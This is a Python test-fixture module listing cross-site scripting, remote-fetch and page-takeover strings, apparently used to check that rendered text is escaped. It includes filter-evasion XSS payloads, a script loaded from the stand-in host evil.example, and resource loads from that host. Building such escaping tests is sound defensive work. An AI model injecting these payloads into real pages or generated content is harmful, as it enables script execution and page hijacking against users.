"""Texts that would run a script, fetch from elsewhere or restyle the page, were they not escaped.

A script that runs sets `window.taken`; what is fetched comes from evil.example.
"""

_RUN = "window.taken=1"
_AWAY = "//evil.example"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<script src={_AWAY}/x.js></script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<SCRIPT/x>{_RUN}</SCRIPT >",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}//",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"`><img src=x onerror=`{_RUN}`>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
    f"' onclick='{_RUN}",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"${{{_RUN}}}",
    f"{{{{{_RUN}}}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"[click](javascript:{_RUN})",
    f"<a href='javascript:{_RUN}'>click</a>",
    f"<javascript:{_RUN}>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>click</a>",
)
FETCHES = (
    f"<img src={_AWAY}/x.png>",
    f"![x](http:{_AWAY}/x.png)",
    f"![x][1]\n\n[1]: http:{_AWAY}/y.png",
    f"<link rel=stylesheet href={_AWAY}/x.css>",
    f"<iframe src={_AWAY}></iframe>",
    f"<object data={_AWAY}/x.swf></object>",
    f"<embed src={_AWAY}/x>",
    f"<video src={_AWAY}/x.mp4 poster={_AWAY}/x.png autoplay>",
    f"<form action={_AWAY}><button autofocus>x</button></form>",
    f"<base href={_AWAY}/>",
    f"<meta http-equiv=refresh content='0;url=http:{_AWAY}'>",
    f"<div style='background:url({_AWAY}/x.png)'>x</div>",
    f"<svg><image href={_AWAY}/x.png /></svg>",
)
STYLES = (
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:#000;z-index:9999'>x</div>",
    "<plaintext>",
    "</div></div></div></main><h1 id=question>taken over</h1>",
    "<font size=7 color=red><marquee><big>",
    "\x1b[31m\x1b[2J",
)
ATTACKS = (*SCRIPTS, *FETCHES, *STYLES)
